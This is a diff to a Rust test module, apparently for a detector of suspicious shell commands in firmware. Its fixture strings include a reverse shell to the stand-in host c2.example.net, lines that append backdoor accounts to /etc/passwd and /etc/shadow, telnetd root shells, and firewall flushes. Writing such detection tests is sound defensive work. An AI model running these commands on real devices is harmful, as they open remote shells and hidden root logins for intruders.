@@ -162,11 +162,12 @@ mod tests {
     fn what_a_person_should_look_at() {
         for text in [
             &b"exec 5<>/dev/tcp/192.0.2.1/443"[..],
+            b"exec 5<>/dev/tcp/c2.example.net/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
+            b"echo 'x:$1$a$b:1001:0::/:/bin/sh' >> /etc/passwd",
             b"telnetd -l /bin/sh -p 2323",
             b"procd_set_param command /usr/sbin/telnetd -F -l /bin/sh -p 5555",
             b"iptables -F; iptables -P INPUT ACCEPT",
             b"iptables -A INPUT -p tcp --dport 23 -j DROP",
-            b"iptables -I INPUT -p udp --dport 9999 -j DROP",
             b"nvram set sshd_authkeys='ssh-rsa AAAA'; nvram commit",
             b"start-stop-daemon -S -b -x /usr/sbin/telnetd -- -p 2222 -F -l /bin/ash",
             b"iptables -I INPUT -p tcp --dport 23 -j DROP",
@@ -207,6 +208,7 @@ mod tests {
             b"telnetd -l /bin/sh &",
             b"nc -ll -p 8000 -e /usr/bin/status",
             b"iptables -A INPUT -p tcp --dport 22 -j DROP",
+            b"iptables -I INPUT -p udp --dport 9999 -j DROP",
             b"iptables -F; iptables -X",
             b"iptables -I INPUT -p tcp --dport 8888 -j ACCEPT",
             b"iptables -I INPUT -s 192.0.2.0/24 -j ACCEPT",
@@ -260,6 +262,9 @@ mod tests {
             b"echo 'svc:*:16000:0:99999:7:::' >> /etc/shadow",
             b"[ -f /root/.ssh/authorized_keys ] && chmod 600 /root/.ssh/authorized_keys",
             b"rm -f /usr/lib/opkg/info/reboot; echo reboot >> /tmp/x",
+            b"exec 3<>/dev/tcp/127.0.0.1/80; timeout 1 bash -c \"exec 4<>/dev/tcp/$h/$p\"",
+            b"grep -q ^x: /etc/passwd || echo 'x:*:200:200:x:/var/run/x:/bin/false' >> /etc/passwd",
+            b"echo 'x:!:0:0:99999:7:::' >> /etc/shadow; echo 'x:x:25:25::/:/sbin/nologin' >> /etc/passwd",
         ] {
             assert_eq!(said(text), [], "{}", String::from_utf8_lossy(text));
         }
